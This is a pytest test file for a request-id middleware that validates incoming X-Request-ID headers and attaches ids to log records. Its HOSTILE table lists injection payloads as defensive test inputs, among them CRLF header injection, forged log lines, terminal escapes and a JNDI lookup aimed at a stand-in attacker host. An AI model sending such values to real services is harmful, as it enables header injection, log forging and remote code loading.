"""Request ids: which come in, where they go, and to which request a line in the log belongs."""

from __future__ import annotations

import asyncio
import logging
import os
import queue
import re
import subprocess
import sys
import threading
from contextvars import copy_context
from logging.handlers import QueueHandler, QueueListener
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import anyio
import anyio.lowlevel
import anyio.to_thread
import httpx
import pytest
import uvicorn
from hypothesis import given
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.background import BackgroundTask
from starlette.middleware import Middleware
from starlette.middleware.base import BaseHTTPMiddleware
from starlette.requests import Request
from starlette.responses import PlainTextResponse, Response
from starlette.routing import Route

from middleware import ConfigurationError
from middleware.request_log import hooks
from middleware.request_log.current import Current
from middleware.request_log.request_id import RequestIdFilter, RequestIdMiddleware, _current, request_id
from tests.asgi import BODY, CONNECT, START, STARTUP, Client, Spy, call, http_scope, lifespan_scope, websocket_scope

ROOT = Path(__file__).parents[2]
NAME = b"x-request-id"
GOOD = "0af7651916cd43dd8448eb211c80319c"
OTHER = "another-good-id"
RANDOM = re.compile(r"[0-9a-f]{32}")

on_asyncio = pytest.mark.parametrize("anyio_backend", ["asyncio"])
on_asyncio_and_uvloop = pytest.mark.parametrize(
    "anyio_backend", ["asyncio", ("asyncio", {"use_uvloop": True})], ids=["asyncio", "uvloop"]
)


def sent_with(*values: str | bytes, name: str = "x-request-id", **changes: Any) -> dict[str, Any]:
    """The scope of a request with an id in each of so many headers."""
    raw = [value if isinstance(value, bytes) else value.encode("latin-1") for value in values]
    return http_scope(headers=[(b"host", b"a.example"), *((name.encode(), value) for value in raw)], **changes)


def ids_in(message: Any, name: bytes = NAME) -> list[str]:
    return [value.decode() for key, value in message["headers"] if key.lower() == name]


async def given_id(scope: dict[str, Any], **keywords: Any) -> str:
    """The id that a request gets, the same in the scope, in the function and in the response."""
    seen = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        seen.append((scope["request_id"], request_id()))
        await send(START)
        await send(BODY)

    start, body = await call(RequestIdMiddleware(app, **keywords), scope)
    ((found, current_id),) = seen
    assert body == BODY
    name = keywords.get("header", "X-Request-ID").lower().encode()
    assert [found] == [current_id] == ids_in(start, name) == [scope["request_id"]]
    return str(found)


# What comes in

TAKEN = {
    "hexadecimal": GOOD,
    "uuid": str(UUID(GOOD)),
    "ulid": "01ARZ3NDEKTSV4RRFFQ69G5FAV",
    "of Heroku": "8f5a1b52-4cb8-4a0b-97b2-c3a3e2e1f6a7",
    "of Amazon": "Root=1-67891233-abcdef012345678912345678",
    "base64": "k2Jz+w9C/0Q=",
    "every character": "azAZ09._~+/=:@-",
    "underscores, which int() takes": "_".join(GOOD),
    "a prefix, which int() takes": f"0x{GOOD[2:]}",
    "8 characters": "a" * 8,
    "128 characters": "a" * 128,
}

HOSTILE: dict[str, str | bytes] = {
    "empty": "",
    "7 characters": "a" * 7,
    "129 characters": "a" * 129,
    "dashes without end": "-" * 5000 + GOOD,
    "urn without end": "urn:" * 1000 + GOOD,
    "8 kB": "a" * 8192,
    "1 MB": "a" * 1_000_000,
    "braces": "{" + GOOD + "}",
    "next line in front": b"\x85" + GOOD.encode(),
    "no-break space in front": b"\xa0" + GOOD.encode(),
    "tab in front": f"\t{GOOD}",
    "space in front": f" {GOOD}",
    "space behind": f"{GOOD} ",
    "line break behind": f"{GOOD}\n",
    "carriage return behind": f"{GOOD}\r",
    "another header": f"{GOOD}\r\nSet-Cookie: a=b",
    "another line": f"{GOOD}\nERROR forged",
    "nul": f"{GOOD}\0",
    "escape": f"\x1b[2J{GOOD}",
    "delete": f"{GOOD}\x7f",
    "c1 control": f"{GOOD}\x9b2J",
    "right to left": f"{GOOD}\u202e".encode(),
    "two in one": f"{GOOD},{GOOD}",
    "two in one with a space": f"{GOOD}, {GOOD}",
    "quotes": f'"{GOOD}"',
    "quote": f"{GOOD}'--",
    "markup": f"<script>{GOOD}",
    "format": "%(message)s%n%n",
    "lookup": "${jndi:ldap://evil.example/a}",
    "backslash": f"{GOOD}\\n",
    "semicolon": f"{GOOD};a",
    "query": f"{GOOD}?a&b",
    "not ASCII": b"\xc3\xa9" * 8,
    "not UTF-8": b"\xff" * 8,
    "full-width digits": "\uff10".encode() * 8,
}


@pytest.mark.parametrize("name", TAKEN)
async def test_an_id_that_is_one_is_taken_over(name: str) -> None:
    assert await given_id(sent_with(TAKEN[name])) == TAKEN[name]


@pytest.mark.parametrize("name", HOSTILE)
async def test_all_else_is_replaced_and_goes_nowhere(name: str, caplog: pytest.LogCaptureFixture) -> None:
    scope = sent_with(HOSTILE[name])
    before = [*scope["headers"]]
    assert RANDOM.fullmatch(await given_id(scope))
    assert caplog.records == []
    assert scope["headers"] == before


@given(st.binary(max_size=200) | st.from_regex(rb"[A-Za-z0-9._~+/=:@-]{6,130}.?", fullmatch=True))
def test_whatever_comes_what_goes_out_is_an_id(value: bytes) -> None:
    scope = sent_with(value)
    sent: list[Any] = []

    async def send(message: Any) -> None:
        sent.append(message)

    def serve() -> None:
        with pytest.raises(StopIteration):
            RequestIdMiddleware(Spy(START))(scope, None, send).send(None)

    copy_context().run(serve)  # the value stays in the context of a request
    (found,) = ids_in(sent[0])
    allowed = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._~+/=:@-")
    is_one = 8 <= len(value) <= 128 and set(value) <= allowed
    assert found == (value.decode() if is_one else found)
    assert is_one or RANDOM.fullmatch(found)


@pytest.mark.parametrize("values", [(GOOD, GOOD), (GOOD, OTHER), (GOOD, ""), ("", GOOD), (GOOD, "\n", OTHER)])
async def test_two_headers_are_none(values: tuple[str, ...]) -> None:
    assert RANDOM.fullmatch(found := await given_id(sent_with(*values)))
    assert found not in values


@pytest.mark.parametrize("name", ["X-Request-ID", "x-request-id", "X-REQUEST-ID"])
async def test_the_name_of_the_header_has_any_case(name: str) -> None:
    assert await given_id(sent_with(GOOD, name=name)) == GOOD
    assert RANDOM.fullmatch(await given_id(sent_with(GOOD, name=name.replace("-", "_"))))


async def test_the_name_of_the_header_can_be_another() -> None:
    assert await given_id(sent_with(GOOD, name="correlation-id"), header="Correlation-ID") == GOOD
    assert RANDOM.fullmatch(await given_id(sent_with(GOOD), header="Correlation-ID"))


async def test_without_headers_an_id_is_made() -> None:
    for headers in (None, [], ...):
        assert RANDOM.fullmatch(await given_id(http_scope(headers=headers)))


async def test_ids_are_all_different() -> None:
    assert len({await given_id(http_scope()) for _ in range(200)}) == 200


def test_ids_of_forked_processes_and_of_threads_are_different() -> None:
    if not hasattr(os, "fork"):
        pytest.skip("the system cannot fork")
    program = """if True:
        import os, threading
        from middleware.request_log.current import random_id
        random_id()
        reading, writing = os.pipe()
        child = os.fork()
        def draw(): os.write(writing, "".join(random_id() + "\\n" for _ in range(100)).encode())
        threads = [threading.Thread(target=draw) for _ in range(5)]
        for thread in threads: thread.start()
        for thread in threads: thread.join()
        if not child: os._exit(0)
        os.waitpid(child, 0)
        os.close(writing)
        print(os.fdopen(reading).read())
    """
    done = subprocess.run([sys.executable, "-c", program], cwd=ROOT, capture_output=True, text=True, timeout=30)
    ids = done.stdout.split()
    assert (len(ids), len({*ids}), done.stderr) == (1000, 1000, "")


# Whom to trust


async def test_whoever_is_not_trusted_gets_an_id_of_ours() -> None:
    assert RANDOM.fullmatch(found := await given_id(sent_with(GOOD), trust=False))
    assert found != GOOD

    def trust(scope: Any) -> bool:
        return bool(scope["client"][0] == "10.0.0.1")

    assert await given_id(sent_with(GOOD, client=("10.0.0.1", 1)), trust=trust) == GOOD
    assert await given_id(sent_with(GOOD, client=("192.0.2.1", 1)), trust=trust) != GOOD


async def test_trust_is_asked_about_ids_only() -> None:
    asked = []

    def trust(scope: Any) -> bool:
        asked.append(scope)
        return True

    for scope in (http_scope(), sent_with("short"), sent_with(GOOD, GOOD)):
        await given_id(scope, trust=trust)
    assert asked == []


async def test_an_id_can_be_made_by_the_user() -> None:
    assert await given_id(http_scope(), generate=lambda: OTHER) == OTHER
    assert await given_id(sent_with("short"), generate=lambda: OTHER) == OTHER
    assert await given_id(sent_with(GOOD), generate=lambda: OTHER) == GOOD
    assert await given_id(sent_with(GOOD), generate=lambda: OTHER, trust=False) == OTHER


def raising(*_: Any) -> Any:
    raise LookupError("out of ids")


WANTED = "8 to 128 of A-Z a-z 0-9 . _ ~ + / = : @ -"
ODD: dict[str, tuple[dict[str, Any], str]] = {
    "generate raises": ({"generate": raising}, "generate of RequestIdMiddleware raised"),
    "generate gives none": ({"generate": lambda: None}, f"generate of RequestIdMiddleware returned None, not {WANTED}"),
    "generate gives a uuid": (
        {"generate": uuid4},
        f"generate of RequestIdMiddleware returned <UUID object>, not {WANTED}",
    ),
    "generate gives bytes": (
        {"generate": lambda: b"a" * 8},
        f"generate of RequestIdMiddleware returned <bytes object>, not {WANTED}",
    ),
    "generate gives too little": (
        {"generate": lambda: "a" * 7},
        f"generate of RequestIdMiddleware returned 'aaaaaaa', not {WANTED}",
    ),
    "generate gives a line break": (
        {"generate": lambda: f"{OTHER}\n"},
        rf"generate of RequestIdMiddleware returned '{OTHER}\n', not {WANTED}",
    ),
    "generate gives a surrogate": (
        {"generate": lambda: f"{OTHER}\ud800"},
        rf"generate of RequestIdMiddleware returned '{OTHER}\ud800', not {WANTED}",
    ),
    "trust raises": ({"trust": raising}, "trust of RequestIdMiddleware raised"),
    "trust gives none": ({"trust": lambda _: None}, "trust of RequestIdMiddleware returned None, not True or False"),
    "trust gives text": ({"trust": lambda _: "yes"}, "trust of RequestIdMiddleware returned 'yes', not True or False"),
}


@pytest.mark.parametrize("name", ODD)
async def test_a_hook_that_fails_fails_no_request_and_is_told_once(name: str, caplog: pytest.LogCaptureFixture) -> None:
    keywords, told = ODD[name]
    middleware = RequestIdMiddleware(Spy(), **keywords)
    for _ in range(3):
        scope = sent_with(GOOD if "trust" in keywords else "short")
        await call(middleware, scope)
        assert RANDOM.fullmatch(scope["request_id"]) and scope["request_id"] != GOOD
    (record,) = caplog.records
    assert (record.name, record.levelno) == ("middleware.request_log", logging.ERROR)
    assert record.getMessage().startswith(f"{told}; ")
    assert bool(record.exc_info) is (" raised" in told)


async def test_a_hook_that_fails_fails_no_request_if_the_log_fails_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(hooks._logger, "error", raising)
    assert RANDOM.fullmatch(await given_id(http_scope(), generate=raising))


async def asynchronous(*_: Any) -> str:
    return OTHER


class Asynchronous:
    async def __call__(self) -> str:
        return OTHER


REFUSED: dict[str, tuple[dict[str, Any], str, str]] = {
    "no name": ({"header": ""}, "header", "is not the name of a header"),
    "a colon": ({"header": "X-Request-ID:"}, "header", "is not the name of a header"),
    "a line break": ({"header": "X-A\r\nSet-Cookie"}, "header", "is not the name of a header"),
    "a name, not ASCII": ({"header": "X-\u212a"}, "header", "is not the name of a header"),
    "a name of bytes": ({"header": b"X-A"}, "header", "is not the name of a header"),
    "no header": ({"header": None}, "header", "is not the name of a header"),
    "trust, text": ({"trust": "10.0.0.1"}, "trust", "is not a function"),
    "trust, number": ({"trust": 1}, "trust", "is not a function"),
    "trust, none": ({"trust": None}, "trust", "is not a function"),
    "trust, asynchronous": ({"trust": asynchronous}, "trust", "is asynchronous, and nothing is awaited here"),
    "generate, text": ({"generate": OTHER}, "generate", "is not a function"),
    "generate, asynchronous": ({"generate": asynchronous}, "generate", "is asynchronous, and nothing is awaited here"),
    "generate, an asynchronous object": (
        {"generate": Asynchronous()},
        *("generate", "is asynchronous, and nothing is awaited here"),
    ),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_wrong_keyword_is_refused(name: str) -> None:
    keywords, parameter, reason = REFUSED[name]
    with pytest.raises(ConfigurationError) as caught:
        RequestIdMiddleware(Spy(), **keywords)
    assert [problem[:1] + problem[2:3] for problem in caught.value.problems] == [(parameter, reason)]


def test_everything_wrong_is_told_at_once() -> None:
    with pytest.raises(ConfigurationError) as caught:
        RequestIdMiddleware(5, header="", trust="", generate="")  # type: ignore[arg-type]
    assert [problem.parameter for problem in caught.value.problems] == ["app", "header", "trust", "generate"]


# Where it goes

ACCEPT = {"type": "websocket.accept", "subprotocol": None, "headers": [(b"x-a", b"1")]}
DENY = {"type": "websocket.http.response.start", "status": 403, "headers": [(b"x-a", b"1")]}
DENY_BODY = {"type": "websocket.http.response.body", "body": b""}


@pytest.mark.parametrize("message", [START, ACCEPT, DENY], ids=lambda message: message["type"])
@pytest.mark.parametrize("theirs", ["x-request-id", "X-Request-ID", "X-REQUEST-ID", None])
@pytest.mark.parametrize("times", [1, 2])
async def test_the_header_is_there_once_in_place_of_the_applications_own(
    message: Any, theirs: str | None, times: int
) -> None:
    own = [] if theirs is None else [(theirs.encode(), b"theirs")] * times
    headers = [*own, *message["headers"], *own, (b"x-request-id-2", b"1"), (b"y-request-id", b"2")]
    inner = Spy({**message, "headers": headers}, BODY if message is START else DENY_BODY)
    scope = http_scope() if message is START else websocket_scope()
    start, _ = await call(RequestIdMiddleware(inner), scope, *([] if message is START else [CONNECT]))
    kept = [header for header in headers if header not in own]
    assert start == {**message, "headers": [*kept, (NAME, scope["request_id"].encode())]}


@pytest.mark.parametrize("message", [START, ACCEPT, DENY], ids=lambda message: message["type"])
async def test_a_start_without_headers_gets_one(message: Any) -> None:
    for headers in ({"headers": None}, {"headers": ()}, {"headers": []}, {}):
        inner = Spy({**{key: value for key, value in message.items() if key != "headers"}, **headers})
        (start,) = await call(RequestIdMiddleware(inner), scope := http_scope(), CONNECT)
        assert start["headers"] == [(NAME, scope["request_id"].encode())]


async def test_headers_can_be_any_iterable_of_any_pairs() -> None:
    inner = Spy({**START, "headers": iter([[b"X-Request-ID", b"theirs"], [b"x-a", b"1"]])})
    (start,) = await call(RequestIdMiddleware(inner), scope := http_scope())
    assert [(name, value) for name, value in start["headers"]] == [
        (b"x-a", b"1"),
        (NAME, scope["request_id"].encode()),
    ]


async def test_a_message_that_is_sent_again_is_as_it_was() -> None:
    start = {**START, "headers": [(b"X-Request-ID", b"theirs")]}
    middleware = RequestIdMiddleware(Spy(start, BODY))
    for _ in range(2):
        sent, _ = await call(middleware, scope := http_scope())
        assert ids_in(sent) == [scope["request_id"]]
    twice = await call(RequestIdMiddleware(Spy(start, start)), scope := http_scope())
    assert [ids_in(message) for message in twice] == [[scope["request_id"]]] * 2
    assert start == {**START, "headers": [(b"X-Request-ID", b"theirs")]}


async def test_other_messages_pass_as_they_are() -> None:
    others = [
        BODY,
        *({"type": kind} for kind in ("http.response.trailers", "http.response.early_hint", "http.response.push")),
        *({"type": kind} for kind in ("websocket.close", "websocket.send", "http.response.debug", "unknown")),
    ]
    sent = await call(RequestIdMiddleware(Spy(*others)), http_scope())
    assert [id(message) for message in sent] == [*map(id, others)]


async def test_a_websocket_that_is_closed_unaccepted_has_an_id() -> None:
    inner = Spy({"type": "websocket.close", "code": 1000})
    sent = await call(RequestIdMiddleware(inner), scope := websocket_scope(), CONNECT)
    assert sent == [{"type": "websocket.close", "code": 1000}]
    assert RANDOM.fullmatch(scope["request_id"])


async def test_what_is_no_connection_passes_as_it_is() -> None:
    for scope in (lifespan_scope(), {"type": "mqtt"}):
        inner, keys = Spy(), {*scope}

        async def receive() -> Any: ...

        async def send(message: Any) -> None: ...

        await RequestIdMiddleware(inner)(scope, receive, send)
        assert inner.calls == [(scope, receive, send)]
        assert {*scope} == keys


async def test_an_instance_inside_another_one_does_nothing() -> None:
    inner = Spy()
    app = RequestIdMiddleware(RequestIdMiddleware(inner, header="X-Inner", generate=lambda: OTHER), trust=False)
    start, _ = await call(app, scope := sent_with(GOOD, name="x-inner"))
    assert ids_in(start) == [scope["request_id"]] == [inner.calls[0][0]["request_id"]]
    assert scope["request_id"] != GOOD
    assert ids_in(start, b"x-inner") == []


# To which request a line belongs

Lines = list[tuple[str, str]]


@pytest.fixture
def lines(request: pytest.FixtureRequest) -> Any:
    """What is logged on the logger ``app``, with the ids that the filter puts on it."""
    found: Lines = []

    class Noting(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            found.append((record.getMessage(), record.request_id))  # type: ignore[attr-defined]

    handler, logger = Noting(), logging.getLogger("app")
    handler.addFilter(RequestIdFilter())
    logger.addHandler(handler)
    logger.setLevel(logging.INFO)
    yield found
    logger.removeHandler(handler)
    logger.setLevel(logging.NOTSET)


log = logging.getLogger("app").info


async def test_a_request_that_inherits_the_context_of_the_one_before_has_an_id_of_its_own(lines: Lines) -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        log("in %s", scope["path"])

    middleware = RequestIdMiddleware(app)
    first, second, third = sent_with(GOOD, path="/1"), http_scope("/2"), sent_with(OTHER, path="/3")
    for scope in (first, second, third):  # in one task, so in one context
        await call(middleware, scope)
        log("after %s", scope["path"])
    ids = [scope["request_id"] for scope in (first, second, third)]
    assert [ids[0], ids[2]] == [GOOD, OTHER] and RANDOM.fullmatch(ids[1])
    assert lines == [(f"{when} /{n}", ids[n - 1]) for n in (1, 2, 3) for when in ("in", "after")]


async def test_the_requests_of_a_connection_do_not_hold_each_other() -> None:
    for _ in range(3):
        await call(RequestIdMiddleware(Spy()), http_scope())
        held = _current.get()
        assert held and held.is_finished and held._outer is None


@on_asyncio_and_uvloop
@pytest.mark.parametrize("http", ["h11", "httptools"])
async def test_on_uvicorn_pipelined_requests_and_errors_of_the_server_have_their_own_ids(
    anyio_backend: Any, http: str, lines: Lines
) -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        log("in %s", scope["path"])
        if scope["path"] == "/fail":
            raise LookupError("raised by the application")
        await send({**START, "headers": [(b"content-length", b"5")]})
        await send(BODY)

    config = uvicorn.Config(RequestIdMiddleware(app), http=http, ws="none", lifespan="off", log_config=None)
    server = uvicorn.Server(config)
    config.load()
    server.lifespan = config.lifespan_class(config)
    errors, handler = logging.getLogger("uvicorn.error"), logging.getLogger("app").handlers[0]
    errors.addHandler(handler)
    try:
        protocol: Any = config.http_protocol_class
        loop = asyncio.get_running_loop()
        listening = await loop.create_server(
            lambda: protocol(config=config, server_state=server.server_state, app_state={}), "127.0.0.1", 0
        )
        reader, writer = await asyncio.open_connection(*listening.sockets[0].getsockname())
        request = b"GET %s HTTP/1.1\r\nHost: a\r\nX-Request-ID: %s\r\n%s\r\n"
        close = b"Connection: close\r\n"
        paths = ((b"/1", b"first-id", b""), (b"/2", b"second-id", b""), (b"/fail", b"failed-id", close))
        writer.write(b"".join(request % one for one in paths))
        answer = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        listening.close()
        await listening.wait_closed()
    finally:
        errors.removeHandler(handler)
    assert re.findall(rb"x-request-id: (\S+)", answer) == [b"first-id", b"second-id"]
    assert lines == [
        *(("in /1", "first-id"), ("in /2", "second-id"), ("in /fail", "failed-id")),
        ("Exception in ASGI application\n", "failed-id"),
    ]


async def test_a_call_inside_the_process_changes_nothing_for_its_caller(lines: Lines) -> None:
    async def inner(scope: Any, receive: Any, send: Any) -> None:
        log("inner")
        await send(START)
        await send(BODY)
        if scope["path"] == "/fail":
            raise LookupError("raised by the inner application")

    called = RequestIdMiddleware(inner)

    async def outer(scope: Any, receive: Any, send: Any) -> None:
        log("before")
        for path in ("/", "/fail"):
            try:
                sent = await call(called, sent_with(OTHER, path=path))
                assert ids_in(sent[0]) == [OTHER]
            except LookupError:
                log("caught")
        log("behind")
        assert request_id() == GOOD
        await send(START)
        await send(BODY)

    start, _ = await call(RequestIdMiddleware(outer), sent_with(GOOD))
    log("after")
    assert ids_in(start) == [GOOD]
    assert lines == [
        *(("before", GOOD), ("inner", OTHER), ("inner", OTHER)),
        *(("caught", GOOD), ("behind", GOOD), ("after", GOOD)),
    ]


async def test_calls_inside_calls_come_back_one_by_one() -> None:
    seen: list[Any] = []

    async def app(scope: Any, receive: Any, send: Any) -> None:
        depth = len(scope["path"])
        if depth < 4:
            await call(middleware, sent_with(f"at-depth-{depth + 1}", path=scope["path"] + "/"))
        seen.append((depth, request_id()))

    middleware = RequestIdMiddleware(app)
    await call(middleware, sent_with("at-depth-1"))
    assert seen == [(depth, f"at-depth-{depth}") for depth in (4, 3, 2, 1)]


@on_asyncio
async def test_a_call_through_httpx_changes_nothing_for_its_caller(anyio_backend: str, lines: Lines) -> None:
    async def inner(scope: Any, receive: Any, send: Any) -> None:
        log("inner")
        await send(START)
        await send(BODY)

    async def outer(scope: Any, receive: Any, send: Any) -> None:
        transport = httpx.ASGITransport(RequestIdMiddleware(inner))
        async with httpx.AsyncClient(transport=transport, base_url="http://inner") as client:
            response = await client.get("/", headers={"X-Request-ID": OTHER})
            assert response.headers["x-request-id"] == OTHER
        log("behind")
        await send(START)
        await send(BODY)

    start, _ = await call(RequestIdMiddleware(outer), sent_with(GOOD))
    assert ids_in(start) == [GOOD]
    assert lines == [("inner", OTHER), ("behind", GOOD)]


async def test_only_the_value_of_the_request_itself_is_taken_back() -> None:
    theirs = Current(_current, OTHER)

    async def inner(scope: Any, receive: Any, send: Any) -> None:
        _current.set(theirs)

    async def outer(scope: Any, receive: Any, send: Any) -> None:
        await call(RequestIdMiddleware(inner), http_scope())
        assert _current.get() is theirs

    await call(RequestIdMiddleware(outer), http_scope())


async def test_tasks_and_threads_have_the_id_and_keep_it(lines: Lines) -> None:
    go_on, done = anyio.Event(), anyio.Event()

    async def late() -> None:
        await go_on.wait()
        log("late")
        done.set()

    async with anyio.create_task_group() as outliving:

        async def app(scope: Any, receive: Any, send: Any) -> None:
            outliving.start_soon(late)
            async with anyio.create_task_group() as group:
                group.start_soon(anyio.to_thread.run_sync, log, "thread")
            await anyio.to_thread.run_sync(log, "another thread")
            await send(START)
            await send(BODY)

        await call(RequestIdMiddleware(app), sent_with(GOOD))
        await call(RequestIdMiddleware(Spy()), sent_with(OTHER))
        go_on.set()
        await done.wait()
    assert lines == [("thread", GOOD), ("another thread", GOOD), ("late", GOOD)]


async def test_send_called_in_the_task_of_another_request_sends_the_right_id() -> None:
    box: list[Any] = []
    ready, sent = anyio.Event(), anyio.Event()

    async def sending(scope: Any, receive: Any, send: Any) -> None:
        await ready.wait()
        assert request_id() == OTHER
        await box[0](START)
        await box[0](BODY)
        sent.set()

    async def waiting(scope: Any, receive: Any, send: Any) -> None:
        box.append(send)
        ready.set()
        await sent.wait()

    async with anyio.create_task_group() as group:
        group.start_soon(call, RequestIdMiddleware(sending), sent_with(OTHER))
        start, _ = await call(RequestIdMiddleware(waiting), sent_with(GOOD))
    assert ids_in(start) == [GOOD]


async def test_send_called_where_no_request_is_sends_the_id() -> None:
    ready, sent = anyio.Event(), anyio.Event()
    box: list[Any] = []

    async def sender() -> None:  # its context is older than the request
        await ready.wait()
        assert request_id() is None
        await box[0](START)
        await box[0](BODY)
        sent.set()

    async def app(scope: Any, receive: Any, send: Any) -> None:
        box.append(send)
        ready.set()
        await sent.wait()

    async with anyio.create_task_group() as group:
        group.start_soon(sender)
        start, _ = await call(RequestIdMiddleware(app), sent_with(GOOD))
    assert ids_in(start) == [GOOD]


class Doing(BaseHTTPMiddleware):
    async def dispatch(self, request: Request, call_next: Any) -> Response:
        log("dispatch")
        response = await call_next(request)
        log("behind call_next")
        return response  # type: ignore[no-any-return]


async def test_starlettes_middleware_views_and_background_tasks_have_the_id(lines: Lines) -> None:
    async def view(request: Request) -> Response:
        log("view")
        return PlainTextResponse("", background=BackgroundTask(background))

    def sync_view(request: Request) -> Response:
        log("view in a thread")
        return PlainTextResponse("", background=BackgroundTask(log, "background in a thread"))

    async def background() -> None:
        await anyio.lowlevel.checkpoint()
        log("background")

    routes = [Route("/", view), Route("/sync", sync_view)]
    for app in (
        RequestIdMiddleware(Starlette(routes=routes, middleware=[Middleware(Doing)])),
        Starlette(routes=routes, middleware=[Middleware(Doing), Middleware(RequestIdMiddleware), Middleware(Doing)]),
    ):
        for path in ("/", "/sync"):
            lines.clear()
            start = (await call(app, sent_with(GOOD, path=path)))[0]
            assert ids_in(start) == [GOOD]
            inside = [line for line in lines if line[1] != "-"]
            expected = {"dispatch", "behind call_next"}
            expected |= {"view", "background"} if path == "/" else {"view in a thread", "background in a thread"}
            assert {line for line, _ in inside} == expected
            assert {found for _, found in inside} == {GOOD}


DJANGO = """if True:
    import asyncio, json, logging, sys
    from django.conf import settings
    settings.configure(SECRET_KEY="tests", ALLOWED_HOSTS=["*"], ROOT_URLCONF=__name__, LOGGING_CONFIG=None)
    import threading
    from asgiref.sync import sync_to_async
    from django.core.asgi import get_asgi_application
    from django.http import HttpResponse
    from django.urls import path
    from middleware.request_log.request_id import RequestIdFilter, RequestIdMiddleware, request_id
    from tests.asgi import call, http_scope

    loop_thread = threading.get_ident()

    def sync_view(request):
        logging.warning("sync")
        assert threading.get_ident() != loop_thread
        return HttpResponse(request_id())

    async def async_view(request):
        logging.warning("async")
        await sync_to_async(logging.warning)("thread of async")
        return HttpResponse(request_id())

    urlpatterns = [path("sync/", sync_view), path("async/", async_view)]
    handler = logging.StreamHandler(sys.stdout)
    handler.addFilter(RequestIdFilter())
    logging.basicConfig(handlers=[handler], format="%(message)s %(request_id)s")
    app = RequestIdMiddleware(get_asgi_application())

    async def ask(path, request_id):
        scope = http_scope(path, headers=[(b"host", b"a"), (b"x-request-id", request_id)])
        start, body = (await call(app, scope))[:2]
        assert body["body"] == request_id, body
        assert [value for name, value in start["headers"] if name == b"x-request-id"] == [request_id]

    async def main():
        await asyncio.gather(*(ask(path, b"%s-%03d" % (path[1:-1].encode(), number))
            for number in range(20) for path in ("/sync/", "/async/")))

    asyncio.run(main())
"""


def test_djangos_views_in_threads_and_not_have_the_id() -> None:
    done = subprocess.run([sys.executable, "-c", DJANGO], cwd=ROOT, capture_output=True, text=True, timeout=30)
    assert done.stderr == ""
    lines = sorted(line.rsplit(" ", 1) for line in done.stdout.splitlines())
    numbers = [f"{number:03}" for number in range(20)]
    expected = [["sync", f"sync-{number}"] for number in numbers]
    expected += [[line, f"async-{number}"] for line in ("async", "thread of async") for number in numbers]
    assert lines == sorted(expected)


async def test_an_exception_passes_as_it_is_and_the_line_of_the_server_has_the_id(lines: Lines) -> None:
    error = LookupError("raised by the application")

    async def app(scope: Any, receive: Any, send: Any) -> None:
        raise error

    for value in (GOOD, OTHER):
        with pytest.raises(LookupError) as caught:
            await call(RequestIdMiddleware(app), sent_with(value))
        log("the server")
        assert caught.value is error
    assert lines == [("the server", GOOD), ("the server", OTHER)]


async def test_a_cancelled_request_is_finished_and_the_line_of_the_server_has_the_id(lines: Lines) -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        await anyio.sleep_forever()

    with anyio.CancelScope() as cancelled:
        cancelled.cancel()
        client = Client()
        await RequestIdMiddleware(app)(sent_with(GOOD), client.receive, client.send)
    assert cancelled.cancelled_caught
    log("the server")
    await call(RequestIdMiddleware(Spy()), sent_with(OTHER))
    log("the server")
    assert lines == [("the server", GOOD), ("the server", OTHER)]


async def test_many_requests_at_once_have_an_id_each(lines: Lines) -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        for _ in range(3):
            log(scope["path"])
            await anyio.lowlevel.checkpoint()

    async with anyio.create_task_group() as group:
        for number in range(50):
            group.start_soon(
                call, RequestIdMiddleware(app), sent_with(f"number-{number:03}", path=f"number-{number:03}")
            )
    assert len(lines) == 150
    assert all(line == found for line, found in lines)


# The filter


async def test_outside_of_requests_there_is_no_id(lines: Lines) -> None:
    async def app(scope: Any, receive: Any, send: Any) -> None:
        log("start-up")

    assert request_id() is None
    await call(RequestIdMiddleware(app), lifespan_scope(), STARTUP)
    assert lines == [("start-up", "-")]


def test_a_record_that_has_an_id_keeps_it(lines: Lines) -> None:
    log("theirs", extra={"request_id": OTHER})
    assert lines == [("theirs", OTHER)]


def test_a_filter_with_a_name_lets_through_what_logging_says() -> None:
    record = logging.makeLogRecord({"name": "app.views"})
    assert RequestIdFilter().filter(record) is RequestIdFilter("app").filter(record) is True
    assert RequestIdFilter("other").filter(record) is False


@pytest.mark.parametrize(("where", "found"), [("queue handler", GOOD), ("handler behind it", "-")])
async def test_the_filter_belongs_on_the_queue_handler(where: str, found: str) -> None:
    records: queue.SimpleQueue[Any] = queue.SimpleQueue()
    seen: list[Any] = []

    class Noting(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            seen.append((threading.get_ident(), record.request_id))  # type: ignore[attr-defined]

    queueing, noting = QueueHandler(records), Noting()
    (queueing if where == "queue handler" else noting).addFilter(RequestIdFilter())
    logger = logging.Logger("queued")
    logger.addHandler(queueing)
    listener = QueueListener(records, noting)

    async def app(scope: Any, receive: Any, send: Any) -> None:
        logger.warning("in a request")

    await call(RequestIdMiddleware(app), sent_with(GOOD))
    listener.start()
    await anyio.to_thread.run_sync(listener.stop)
    ((thread, found_id),) = seen
    assert thread != threading.get_ident()
    assert found_id == found
